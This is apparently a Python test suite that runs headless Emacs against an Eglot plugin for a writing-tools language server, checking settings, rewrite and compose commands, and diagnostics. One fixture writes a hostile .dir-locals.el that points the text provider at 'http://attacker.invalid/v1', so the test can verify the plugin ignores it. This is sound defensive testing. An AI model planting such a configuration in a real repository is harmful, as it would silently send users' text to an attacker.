#!/usr/bin/env python3
"""Headless Emacs checks of editors/emacs/wt-lsp.el (Debian's emacs-nox with
elpa-eglot, elpa-markdown-mode and, optionally, elpa-lsp-mode):

  compile  wt-lsp.el byte-compiles without warnings;
  plugin   Eglot against tests/fake_server.py: settings sent as
           initializationOptions, workspace/configuration and
           didChangeConfiguration answered from `wt-lsp-settings` -- and not
           from a repository's .dir-locals.el --, `wt-lsp-rewrite` sends the
           region's range and the server's edit lands, `wt-lsp-show-ignored`
           highlights;
  lsp-mode wt-lsp-lsp-mode-setup registers the client and its settings;
  server   Eglot against the real server ($WT_EXE, default
           .build/release/wt-lsp): diagnostics for a misspelling, and
           `wt-lsp-rewrite concise` on a wordy line once the server has it.

Run from the repository root: python3 editors/tests/test_emacs.py
When emacs or Eglot is missing, says so and counts the run as skipped.
Closes with 'test_emacs: N passed, N failed'.
"""
import json
import os
import shutil
import subprocess
import sys
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
REPO = os.path.dirname(os.path.dirname(HERE))
EMACS_DIR = os.path.join(REPO, "editors", "emacs")
EMACS = shutil.which("emacs")
EXE = os.path.abspath(os.environ.get("WT_EXE") or os.path.join(REPO, ".build", "release", "wt-lsp"))
PRELUDE = ("(progn (require 'package)"
           " (dolist (d '(\"/usr/share/emacs/site-lisp/elpa\" \"/usr/share/emacs/site-lisp/elpa-src\"))"
           "   (when (file-directory-p d) (add-to-list 'package-directory-list d)))"
           " (package-initialize))")

results = []


def check(name, ok, detail=""):
    results.append("pass" if ok else "FAIL")
    print("%s %s%s" % ("ok  " if ok else "FAIL", name, "" if ok else ": " + str(detail)[:800]))
    return ok


def skip(name, why):
    results.append("skip")
    print("skip %s: %s" % (name, why))


def emacs(*args, env=None, cwd=None, timeout=90):
    return subprocess.run([EMACS, "--batch", "-Q", "--eval", PRELUDE, "-L", EMACS_DIR] + list(args),
                          capture_output=True, text=True, env=dict(os.environ, **(env or {})),
                          cwd=cwd, timeout=timeout, stdin=subprocess.DEVNULL)


def has_feature(feature):
    r = emacs("--eval", "(princ (if (require '%s nil t) \"yes\" \"no\"))" % feature)
    return r.stdout.strip().endswith("yes")


def run_eglot(env, cwd):
    out = os.path.join(cwd, "out.json")
    env = dict(env, WT_OUT=out)
    try:
        r = emacs("-l", os.path.join(HERE, "emacs_eglot.el"), env=env, cwd=cwd)
    except subprocess.TimeoutExpired:
        return {"error": "Emacs did not finish in time"}
    try:
        with open(out) as f:
            return json.load(f)
    except Exception as ex:
        return {"error": "no results (%s): %s" % (ex, r.stderr[-1500:])}


def test_compile():
    tmp = tempfile.mkdtemp(prefix="wt-emacs-compile-")
    src = os.path.join(tmp, "wt-lsp.el")
    shutil.copy(os.path.join(EMACS_DIR, "wt-lsp.el"), src)
    r = emacs("--eval", "(setq byte-compile-error-on-warn t)", "-f", "batch-byte-compile", src)
    check("emacs: wt-lsp.el byte-compiles without warnings", r.returncode == 0 and os.path.exists(src + "c"),
          r.stderr[-1500:])


def test_plugin():
    tmp = tempfile.mkdtemp(prefix="wt-emacs-plugin-")
    doc = os.path.join(tmp, "plan.md")
    with open(doc, "w") as f:
        f.write("# Title\n\nThis line will be rewritten.\n\nSome teh text with `code` here.\n")
    # A repository trying to send your text elsewhere (Eglot marks this
    # variable safe, so Emacs applies it without asking).
    with open(os.path.join(tmp, ".dir-locals.el"), "w") as f:
        f.write('((nil . ((eglot-workspace-configuration . (:writingTools (:provider (:kind "openai" '
                ':endpoint "http://attacker.invalid/v1")))))))\n')
    log_path = os.path.join(tmp, "fake.json")
    res = run_eglot({"WT_CMD": sys.executable, "WT_ARGS": json.dumps([os.path.join(HERE, "fake_server.py")]),
                     "WT_FILE": doc, "FAKE_LOG": log_path}, tmp)
    if not check("eglot: script ran", "error" not in res, res.get("error")):
        return
    try:
        with open(log_path) as f:
            log = json.load(f)
    except Exception as ex:
        check("eglot: fake server started", False, ex)
        return
    settings = {"dialect": "en-GB", "dictionary": {"words": ["Eglot"]}}
    check("eglot: connects with the wt-lsp server class",
          res.get("connected") and res.get("server-class") == "wt-lsp-eglot-server", res)
    check("eglot: diagnostics reach flymake", any(d["text"] == "teh" for d in res.get("diags", [])), res.get("diags"))
    check("eglot: settings sent as initializationOptions", log.get("initializationOptions") == settings,
          log.get("initializationOptions"))
    check("eglot: workspace/configuration answered from wt-lsp-settings (not .dir-locals.el)",
          log.get("configuration") == [settings, {"writingTools": settings}], log.get("configuration"))
    dcc = log.get("didChangeConfiguration") or []
    check("eglot: didChangeConfiguration carries settings.writingTools only from wt-lsp-settings",
          dcc and all(s == {"writingTools": settings} for s in dcc), dcc)
    check("eglot: markdown language id", [o["languageId"] for o in log.get("opened", [])] == ["markdown"],
          log.get("opened"))
    cmds = log.get("commands") or []
    want = {"command": "writingTools.rewrite",
            "argument": {"uri": "file://" + doc, "tone": "concise",
                         "range": {"start": {"line": 2, "character": 0}, "end": {"line": 2, "character": 28}}}}
    check("eglot: wt-lsp-rewrite sends the region", cmds[:1] == [want], cmds)
    check("eglot: the server's edit is applied",
          res.get("after") == "# Title\n\nconcise text.\n\nSome teh text with `code` here.\n", res.get("after"))
    check("eglot: wt-lsp-show-ignored highlights", res.get("ignored") == ["`code`"], res.get("ignored"))
    want = {"command": "writingTools.compose",
            "argument": {"uri": "file://" + doc, "prompt": "Greet the team", "position": {"line": 4, "character": 0}}}
    check("eglot: wt-lsp-compose sends the point and the prompt", cmds[1:2] == [want], cmds)
    check("eglot: the composed text is inserted",
          res.get("composed") == "# Title\n\nconcise text.\n\nGreet the team text.\n\nSome teh text with `code` here.\n",
          res.get("composed"))
    want = {"command": "writingTools.refine", "argument": {"session": 2, "instructions": "make it warmer"}}
    check("eglot: wt-lsp-follow-up refines the session that last wrote", cmds[2:3] == [want], cmds)


def test_lsp_mode():
    if not has_feature("lsp-mode"):
        skip("lsp-mode: client registered", "lsp-mode not installed (apt-get install elpa-lsp-mode)")
        return
    r = emacs("--eval", "(progn (require 'wt-lsp)"
              " (setq wt-lsp-settings '(:dialect \"en-AU\"))"
              " (wt-lsp-lsp-mode-setup)"
              " (princ (json-encode (list :client (and (gethash 'wt-lsp lsp-clients) t)"
              "   :section (lsp-configuration-section \"writingTools\")"
              "   :language (alist-get 'git-commit-mode lsp-language-id-configuration)))))")
    try:
        out = json.loads(r.stdout.strip().splitlines()[-1])
    except Exception:
        out = {"stdout": r.stdout[-500:], "stderr": r.stderr[-1500:]}
    check("lsp-mode: client registered with its settings section",
          out.get("client") is True and out.get("section") == {"writingTools": {"dialect": "en-AU"}}
          and out.get("language") == "gitcommit", out)


def test_server():
    if not (os.path.isfile(EXE) and os.access(EXE, os.X_OK)):
        check("server: binary exists", False, "no wt-lsp binary at %s" % EXE)
        return
    tmp = tempfile.mkdtemp(prefix="wt-emacs-server-")
    doc = os.path.join(tmp, "note.md")
    wordy = "In order to get there, we are basically going to take the train due to the fact that it is fast."
    with open(doc, "w") as f:
        f.write("# Note\n\n%s\n\nThe cat sat on teh mat.\n" % wordy)
    res = run_eglot({"WT_CMD": EXE, "WT_FILE": doc}, tmp)
    if not check("server: script ran", "error" not in res, res.get("error")):
        return
    check("server: Eglot gets a diagnostic on 'teh'",
          any(d["text"] == "teh" and d["line"] == 5 for d in res.get("diags", [])), res.get("diags"))
    lines = (res.get("after") or "").split("\n")
    check("server: wt-lsp-rewrite concise shortens line 3",
          len(lines) >= 5 and "in order to" not in lines[2].lower() and 0 < len(lines[2]) < len(wordy) - 10
          and lines[4] == "The cat sat on teh mat.", (res.get("after"), res.get("messages")))


def main():
    if not EMACS or not has_feature("eglot"):
        print("skip: emacs with Eglot not installed (apt-get install -y emacs-nox elpa-eglot elpa-markdown-mode)")
        print("test_emacs: 0 passed, 0 failed, 1 skipped")
        return 0
    which = sys.argv[1:] or ["compile", "plugin", "lsp-mode", "server"]
    if "compile" in which:
        test_compile()
    if "plugin" in which:
        test_plugin()
    if "lsp-mode" in which:
        test_lsp_mode()
    if "server" in which:
        test_server()
    print("test_emacs: %d passed, %d failed%s" % (
        results.count("pass"), results.count("FAIL"),
        ", %d skipped" % results.count("skip") if "skip" in results else ""))
    return 1 if "FAIL" in results else 0


if __name__ == "__main__":
    sys.exit(main())
